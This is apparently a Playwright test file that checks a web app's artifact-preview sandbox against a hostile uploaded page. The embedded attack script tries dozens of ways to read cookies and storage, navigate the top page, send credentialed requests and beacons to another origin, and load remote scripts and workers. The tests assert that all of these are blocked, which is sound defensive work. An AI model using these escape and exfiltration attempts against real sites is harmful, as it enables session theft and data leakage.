import type { Browser, BrowserContext, Frame, Page } from 'playwright-core';
import { PublishArtifact } from '#src/artifacts/preview/application/commands/publish-artifact.js';
import { GetPreviewTicket } from '#src/artifacts/preview/application/queries/get-preview-ticket.js';
import { describeInBrowser, openBrowser } from '../support/browser.js';
import type { Json } from '../support/loupe-app.js';
import { PreviewStage, Witness } from '../support/preview-stage.js';
import { pause, until } from '../support/until.js';

// Names of the browser, where the functions given to `evaluate` run.
declare const window: Json;
declare const document: Json;

/**
 * The hostile page: it tries one thing after the other and writes down what came of each. `got` is a success of the
 * attack, everything else is how it failed.
 */
const attacks = (app: string, other: string): string => `
const out = {};
const said = (error) => String(error && error.name || error);
async function attempt(name, work) {
  try {
    const late = new Promise((done) => setTimeout(() => done('silence'), name.startsWith('its own') ? 20000 : 1500));
    const result = await Promise.race([work(), late]);
    out[name] = result === undefined ? 'got' : String(result);
  } catch (error) { out[name] = said(error); }
}
const loaded = (make) => new Promise((done, fail) => {
  const element = make();
  element.onload = () => done('got');
  element.onerror = () => fail(new Error('error'));
  document.body.append(element);
});
const element = (name, values) => Object.assign(document.createElement(name), values);
async function all() {
  await attempt('cookie', async () => document.cookie === '' ? 'empty' : 'got');
  await attempt('set cookie', async () => { document.cookie = 'hostile=1; path=/'; return document.cookie.includes('hostile') ? 'got' : 'ignored'; });
  await attempt('localStorage', async () => { localStorage.setItem('a', '1'); });
  await attempt('sessionStorage', async () => { sessionStorage.setItem('a', '1'); });
  await attempt('indexedDB', () => new Promise((done, fail) => { const open = indexedDB.open('a'); open.onsuccess = () => done('got'); open.onerror = () => fail(open.error); }));
  await attempt('caches', async () => { await caches.open('a'); });
  await attempt('document.domain', async () => { document.domain = 'localhost'; });
  await attempt('parent document', async () => parent.document.title === undefined ? 'none' : 'got');
  await attempt('top document', async () => top.document.cookie === undefined ? 'none' : 'got');
  await attempt('parent address', async () => parent.location.href === undefined ? 'none' : 'got');
  await attempt('frameElement', async () => frameElement === null ? 'null' : 'got');
  await attempt('top.location =', async () => { top.location = '${other}/top-location'; return 'asked'; });
  await attempt('top.location.replace', async () => { top.location.replace('${other}/top-replace'); return 'asked'; });
  await attempt('top.location.hash', async () => { top.location = '${app}/login#hostile'; return 'asked'; });
  await attempt('target=_top', async () => { const a = element('a', { href: '${other}/top-link', target: '_top' }); document.body.append(a); a.click(); return 'asked'; });
  await attempt('target=_parent', async () => { const a = element('a', { href: '${other}/parent-link', target: '_parent' }); document.body.append(a); a.click(); return 'asked'; });
  for (const target of ['_top', '_blank']) {
    await attempt('form ' + target, async () => { const form = element('form', { action: '${other}/form' + target, method: 'post', target }); document.body.append(form); form.submit(); return 'asked'; });
  }
  await attempt('window.open', async () => { const w = window.open('${other}/open'); return w === null ? 'null' : 'got'; });
  await attempt('target=_blank', async () => { const a = element('a', { href: '${other}/blank-link', target: '_blank', rel: 'opener' }); document.body.append(a); a.click(); return 'asked'; });
  await attempt('service worker', async () => { await navigator.serviceWorker.register('sw.js'); });
  for (const [where, url] of [['the API', '${app}/api/session'], ['an API by a path', '/api/session'], ['another origin', '${other}/fetch'], ['the loopback', 'http://127.0.0.1:9/x']]) {
    await attempt('fetch of ' + where, async () => { await fetch(url, { credentials: 'include' }); });
    await attempt('fetch without CORS of ' + where, async () => { await fetch(url, { mode: 'no-cors', credentials: 'include' }); });
    await attempt('XHR to ' + where, () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('POST', url); x.withCredentials = true; x.onload = () => done('got'); x.onerror = () => fail(new Error('error')); x.send('{}'); }));
    await attempt('EventSource of ' + where, () => new Promise((done, fail) => { const s = new EventSource(url, { withCredentials: true }); s.onopen = () => done('got'); s.onerror = () => { s.close(); fail(new Error('error')); }; }));
    await attempt('beacon to ' + where, async () => { navigator.sendBeacon(url, 'x'); return 'asked'; });
  }
  await attempt('WebSocket', () => new Promise((done, fail) => { const s = new WebSocket('${other.replace('http', 'ws')}/socket'); s.onopen = () => done('got'); s.onerror = () => fail(new Error('error')); }));
  for (const [name, make] of Object.entries({
    image: () => element('img', { src: '${other}/image' }),
    script: () => element('script', { src: '${other}/script.js' }),
    'script of the app': () => element('script', { src: '${app}/assets/theme.js' }),
    'style sheet': () => element('link', { rel: 'stylesheet', href: '${other}/style' }),
    'image of the app': () => element('img', { src: '${app}/assets/mark.svg' }),
    preload: () => element('link', { rel: 'preload', as: 'script', href: '${other}/preload' }),
    prefetch: () => element('link', { rel: 'prefetch', href: '${other}/prefetch' }),
    manifest: () => element('link', { rel: 'manifest', href: '${other}/manifest' }),
    icon: () => element('link', { rel: 'icon', href: '${other}/icon' }),
    modulepreload: () => element('link', { rel: 'modulepreload', href: '${other}/modulepreload.js' }),
    video: () => element('video', { src: '${other}/video', poster: '${other}/poster' }),
    'input image': () => element('input', { type: 'image', src: '${other}/input' }),
    'image in SVG': () => { const d = element('div', {}); d.innerHTML = '<svg><image href="${other}/svg-image"/><use href="${other}/svg-use#a"/></svg>'; return d; },
  })) await attempt(name, () => loaded(make));
  await attempt('frame', async () => { document.body.append(element('iframe', { src: '${other}/frame' })); return 'asked'; });
  await attempt('frame of the app', async () => { const f = element('iframe', { src: '${app}/login' }); document.body.append(f); await new Promise((done) => setTimeout(done, 300)); return f.contentDocument === null ? 'closed' : 'open'; });
  await attempt('object', async () => { document.body.append(element('object', { data: '${other}/object', type: 'text/html' })); return 'asked'; });
  await attempt('embed', async () => { document.body.append(element('embed', { src: '${other}/embed', type: 'text/html' })); return 'asked'; });
  await attempt('styles that load', async () => {
    document.head.append(element('style', { textContent: '@import "${other}/css-import"; body { background: url("${other}/css-image"); cursor: url("${other}/cursor"), auto }' }));
    return 'asked';
  });
  await attempt('preconnect', async () => { document.head.append(element('link', { rel: 'preconnect', href: '${other}' })); return 'asked'; });
  await attempt('speculation rules', async () => {
    document.head.append(element('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: ['${other}/speculated'] }], prerender: [{ source: 'list', urls: ['${other}/prerendered'] }] }) }));
    return 'asked';
  });
  await attempt('ping', async () => { const a = element('a', { href: '#here', ping: '${other}/ping' }); document.body.append(a); a.click(); return 'asked'; });
  await attempt('shared worker', () => new Promise((done, fail) => { const w = new SharedWorker('${other}/shared.js'); w.onerror = () => fail(new Error('error')); w.port.onmessage = () => done('got'); }));
  await attempt('WebTransport', async () => { const t = new WebTransport('${other.replace('http:', 'https:')}/transport'); await t.ready; });
  await attempt('keepalive', async () => { await fetch('${other}/keepalive', { keepalive: true, mode: 'no-cors', method: 'POST', body: 'x' }); });
  await attempt('credentials', async () => { const c = await navigator.credentials.get({ password: true }); return c === null ? 'null' : 'got'; });
  await attempt('channel', () => new Promise((done) => { const c = new BroadcastChannel('loupe'); c.onmessage = () => done('got'); c.postMessage('x'); setTimeout(() => done('silence'), 200); }));
  await attempt('font', async () => { const font = new FontFace('x', 'url(${other}/font)'); await font.load(); });
  await attempt('import', async () => { await import('${other}/module.js'); });
  await attempt('worker', () => new Promise((done, fail) => { const w = new Worker('${other}/worker.js'); w.onerror = () => fail(new Error('error')); w.onmessage = () => done('got'); }));
  await attempt('worker of a blob', () => new Promise((done) => {
    const code = "fetch('${other}/blob-worker').then(() => postMessage('got'), () => postMessage('refused'))";
    const w = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    w.onmessage = ({ data }) => done(data); w.onerror = () => done('error');
  }));
  await attempt('frame of a blob', async () => { const f = element('iframe', { src: URL.createObjectURL(new Blob(['<script>parent.blobFrame = 1</' + 'script>'], { type: 'text/html' })) }); document.body.append(f); await new Promise((done) => setTimeout(done, 300)); return window.blobFrame ? 'got' : 'nothing'; });
  await attempt('frame inside', () => new Promise((done) => {
    addEventListener('message', ({ data }) => done(data));
    const code = "let said = []; try { said.push(document.cookie === '' ? 'empty' : 'got') } catch (e) { said.push(e.name) } try { localStorage.x = 1; said.push('got') } catch (e) { said.push(e.name) } try { top.location = '${other}/nested-top' } catch (e) { said.push(e.name) } fetch('${other}/nested').then(() => said.push('got'), (e) => said.push(e.name)).then(() => parent.postMessage(said.join(), '*'))";
    document.body.append(element('iframe', { srcdoc: '<script>' + code + '</' + 'script>' }));
  }));
  await attempt('base', async () => { document.head.append(element('base', { href: '${other}/' })); return document.baseURI.startsWith('${other}') ? 'got' : 'ignored'; });
  await attempt('geolocation', () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(() => done('got'), (e) => fail(new Error('denied ' + e.code)))));
  await attempt('camera', async () => { await navigator.mediaDevices.getUserMedia({ video: true }); });
  await attempt('download', async () => { const a = element('a', { href: URL.createObjectURL(new Blob(['x'])), download: 'x.exe' }); document.body.append(a); a.click(); return 'asked'; });
  await attempt('its own file', async () => (await (await fetch('data.json')).json()).word);
  await attempt('its own file by a root path', async () => document.querySelector('img').naturalWidth > 0 ? 'shown' : 'missing');
  await attempt('its own module', async () => (await import(new URL('module.js', location.href).href)).word);
  document.title = 'finished';
  window.results = out;
}
addEventListener('load', () => void all());
`;

/** What each attempt has to come to. Nothing may be "got"; here stands what may be told from a success. */
const WANTED: Readonly<Record<string, string>> = {
  'its own file': 'served',
  'its own file by a root path': 'shown',
  'its own module': 'imported',
};

const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);

const hostile = (app: string, other: string): Record<string, string | Uint8Array> => ({
  'index.html': `<!doctype html><title>hostile</title><body><h1 id="own">static</h1><img src="/pixel.png"><script>document.getElementById('own').textContent = 'its script runs'</script><script src="attack.js"></script></body>`,
  'attack.js': attacks(app, other),
  'data.json': '{"word":"served"}',
  'module.js': 'export const word = "imported";',
  'pixel.png': PIXEL,
  'sw.js': 'self.addEventListener("fetch", () => {});',
  'refresh.html': `<meta http-equiv="refresh" content="0;url=${other}/refresh"><p>refresh</p>`,
  'leave.html': `<p>leave</p><script>location.href = '${other}/leave?secret'</script>`,
  'app.html': `<p>app</p><script>location.href = '${app}/account'</script>`,
  'script.svg': `<svg xmlns="http://www.w3.org/2000/svg"><text id="t">quiet</text><script>let s; try { s = document.cookie === '' ? 'empty' : 'got' } catch (e) { s = e.name } try { localStorage.x = 1; s += ' got' } catch (e) { s += ' ' + e.name } document.getElementById('t').textContent = s</script></svg>`,
  'top.svg': `<svg xmlns="http://www.w3.org/2000/svg"><script>top.location = '${other}/svg'</script></svg>`,
  'form.html': `<form action="${other}/form" method="post"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
  'page.png': '<script>document.title = "ran"</script>',
  'page.txt': '<script>document.title = "ran"</script>',
  'page.json': '<script>document.title = "ran"</script>',
  'page.xml':
    '<html xmlns="http://www.w3.org/1999/xhtml"><script>try { localStorage.x = 1; document.title = "got" } catch (e) { document.title = e.name }</script></html>',
  'api/session': 'a file, not the API',
});

describeInBrowser('hostile artifacts', () => {
  let browser: Browser;
  let other: Witness;

  beforeAll(async () => {
    browser = await openBrowser();
    other = await Witness.start();
  });
  afterAll(async () => {
    await browser?.close();
    await other?.stop();
  });

  /** Opens the preview page and waits until the hostile script has tried everything. */
  async function opened(
    stage: PreviewStage,
    address: string,
  ): Promise<{ context: BrowserContext; page: Page }> {
    const context = await browser.newContext();
    await stage.signIn(context);
    const page = await context.newPage();
    await page.goto(address);
    return { context, page };
  }

  const inner = async (page: Page): Promise<Frame> => {
    await until(() => page.frames().length > 1, 10_000, 'no frame');
    return page.frames()[1]!;
  };

  const resultsIn = async (place: Frame | Page): Promise<Record<string, string>> => {
    await place.waitForFunction(() => window.results !== undefined, undefined, { timeout: 60_000 });
    return place.evaluate(() => window.results);
  };

  const failedAll = (results: Record<string, string>, allowed: readonly string[] = []): void => {
    for (const [name, wanted] of Object.entries(WANTED))
      expect([name, results[name]]).toEqual([name, wanted]);
    const got = Object.entries(results).filter(
      ([name, result]) => /\bgot\b/.test(result) && !allowed.includes(name),
    );
    expect(got).toEqual([]);
    expect(Object.keys(results).length).toBeGreaterThan(55);
  };

  describe('on the host of the application', () => {
    let stage: PreviewStage;
    let artifactId: string;

    beforeAll(async () => {
      stage = await PreviewStage.start();
      ({ artifactId } = await stage.artifact(hostile(stage.app.url, other.url)));
    });
    afterAll(() => stage?.stop());
    beforeEach(() => {
      other.seen.length = 0;
    });

    const frameUrl = async (path: string): Promise<string> => {
      const { owner, projectId } = stage;
      const { baseUrl } = await stage.app.get(GetPreviewTicket).execute(owner, { artifactId, projectId });
      return `${baseUrl}${path}`;
    };

    it('artifacts 15.43: reach no cookie, storage, page around them, API or network, while their own script runs', async () => {
      const address = `${stage.app.url}/artifacts/${artifactId}/preview`;
      const { context, page } = await opened(stage, address);
      // At the server: a browser also reports requests that it then refuses to send.
      const asked: string[] = [];
      // Express shortens `url` while it hands a request on, and keeps the whole one beside it.
      const note = (request: { url?: string; originalUrl?: string }) =>
        asked.push(request.originalUrl ?? request.url ?? '');
      stage.app.server.app.getHttpServer().on('request', note);
      const downloads: string[] = [];
      page.on('download', (download) => downloads.push(download.url()));
      const frame = await inner(page);
      const results = await resultsIn(frame);
      failedAll(results);
      expect(await frame.evaluate(() => document.getElementById('own').textContent)).toBe('its script runs');
      expect(await frame.evaluate(() => window.origin)).toBe('null');
      expect(page.url()).toBe(address);
      expect(context.pages()).toHaveLength(1);
      expect(downloads).toEqual([]);
      // Nothing has left the browser, to anybody.
      expect(other.seen).toEqual([]);
      stage.app.server.app.getHttpServer().off('request', note);
      expect(asked.filter((url) => !/^\/(artifact-preview|assets|artifacts|api\/live)\b/.test(url))).toEqual(
        [],
      );
      const cookies = await context.cookies();
      expect(cookies.map(({ name }) => name)).toEqual(['loupe_session']);
      await context.close();
    }, 170_000);

    it.each([
      ['refresh.html', 'a refresh'],
      ['leave.html', 'a script'],
      ['form.html', 'a form'],
      ['top.svg', 'a picture that leads the top page away'],
    ])('cannot carry anything away by leading a frame elsewhere: %s, %s', async (path) => {
      const { context, page } = await opened(stage, `${stage.app.url}/artifacts/${artifactId}/preview`);
      const frame = await inner(page);
      await frame.goto(await frameUrl(path)).catch(() => undefined);
      await pause(500);
      expect(other.seen).toEqual([]);
      expect(page.url()).toContain('/preview');
      await context.close();
    });

    it('cannot show a page of the application in their frame', async () => {
      const { context, page } = await opened(stage, `${stage.app.url}/artifacts/${artifactId}/preview`);
      const frame = await inner(page);
      await frame.goto(await frameUrl('app.html')).catch(() => undefined);
      await pause(500);
      const shown = page.frames().map((one) => one.url());
      expect(shown.some((url) => url.includes('/account'))).toBe(false);
      await context.close();
    });

    it('stay without an origin when somebody opens their address by itself', async () => {
      const context = await browser.newContext();
      await stage.signIn(context);
      const page = await context.newPage();
      await page.goto(await frameUrl('script.svg'));
      await until(async () => (await page.locator('#t').textContent({ timeout: 10_000 })) !== 'quiet');
      expect(await page.locator('#t').textContent({ timeout: 10_000 })).toBe('SecurityError SecurityError');
      other.seen.length = 0;
      await page.goto(await frameUrl('index.html'));
      expect(await page.evaluate(() => window.origin)).toBe('null');
      const tries = await page.evaluate(async (app) => {
        const said: Record<string, string> = {};
        const attempt = async (name: string, work: () => Json) => {
          try {
            said[name] = String((await work()) ?? 'got');
          } catch (error) {
            said[name] = (error as Error).name;
          }
        };
        await attempt('cookie', () => document.cookie);
        await attempt('localStorage', () => window.localStorage.length);
        await attempt('indexedDB', () => window.indexedDB.open('x') && undefined);
        await attempt('service worker', () => window.navigator.serviceWorker.register('sw.js'));
        await attempt('API', () =>
          window.fetch(`${app}/api/session`, { credentials: 'include' }).then(() => undefined),
        );
        return said;
      }, stage.app.url);
      expect(Object.values(tries).filter((one) => one === 'got')).toEqual([]);
      expect(tries).toMatchObject({
        cookie: 'SecurityError',
        localStorage: 'SecurityError',
        API: 'TypeError',
      });
      await context.close();
    });

    it('run no script from a picture, and none from a file of another type', async () => {
      const context = await browser.newContext();
      const page = await context.newPage();
      for (const path of ['page.png', 'page.txt', 'page.json']) {
        await page.goto(await frameUrl(path));
        expect([path, await page.title()]).toEqual([path, '']);
        expect(await page.evaluate(() => document.body.textContent)).toContain('<script>');
      }
      await page.goto(await frameUrl('page.xml'));
      expect(await page.title()).not.toBe('got');
      await context.close();
    });

    it('is served by its key although it is named like a route; an encoded slash is 404', async () => {
      expect(await (await fetch(await frameUrl('api/session'))).text()).toBe('a file, not the API');
      expect((await fetch(await frameUrl('api%2fsession'))).status).toBe(404);
    });

    it('gets no session: cookies are neither read nor set at these addresses', async () => {
      const answer = await fetch(await frameUrl('index.html'), {
        headers: { cookie: 'loupe_session=anything' },
      });
      expect(answer.status).toBe(200);
      expect(answer.headers.getSetCookie()).toEqual([]);
    });

    it('artifacts 15.47: reach nothing as a live page either', async () => {
      await stage.flag('artifacts.publish.enabled', true);
      const { owner, projectId } = stage;
      const { liveUrl } = await stage.app.get(PublishArtifact).execute(owner, { projectId, artifactId });
      const context = await browser.newContext();
      await stage.signIn(context);
      const page = await context.newPage();
      await page.goto(`${liveUrl}script.svg`);
      await until(async () => (await page.locator('#t').textContent({ timeout: 10_000 })) !== 'quiet');
      expect(await page.locator('#t').textContent({ timeout: 10_000 })).toBe('SecurityError SecurityError');
      const framed = await context.newPage();
      await framed.setContent(`<iframe src="${liveUrl}"></iframe>`);
      await pause(500);
      expect(await framed.frames()[1]!.evaluate(() => document.getElementById('own') === null)).toBe(true);
      await context.close();
    });
  });

  describe('on a host of their own', () => {
    let stage: PreviewStage;
    let artifactId: string;

    beforeAll(async () => {
      stage = await PreviewStage.start({
        ARTIFACT_PREVIEW_ORIGIN: 'http://{label}.preview.localhost:{port}',
      });
      ({ artifactId } = await stage.artifact(hostile(stage.app.url, other.url)));
    });
    afterAll(() => stage?.stop());

    it('artifacts 10.1: have storage of their own, and reach no more than that', async () => {
      other.seen.length = 0;
      const address = `${stage.app.url}/artifacts/${artifactId}/preview`;
      const { context, page } = await opened(stage, address);
      const frame = await inner(page);
      const results = await resultsIn(frame);
      failedAll(results, [
        'localStorage',
        'sessionStorage',
        'indexedDB',
        'caches',
        'frame inside',
        'set cookie',
      ]);
      expect(results['service worker']).not.toBe('got');
      expect(page.url()).toBe(address);
      expect(context.pages()).toHaveLength(1);
      expect(other.seen).toEqual([]);
      const ofApp = await page.evaluate(() => Object.keys(window.localStorage));
      expect(ofApp).not.toContain('a');
      // Alone in its window, where no setting of the browser about frames of others counts.
      const alone = await context.newPage();
      await alone.goto(frame.url().replace('index.html', 'data.json'));
      const kept = await alone.evaluate(() => {
        window.localStorage.setItem('kept', 'yes');
        return [window.localStorage.getItem('kept'), document.cookie];
      });
      expect(kept).toEqual(['yes', '']);
      expect(new URL(alone.url()).host).not.toBe(new URL(stage.app.url).host);
      await context.close();
    }, 170_000);
  });
});
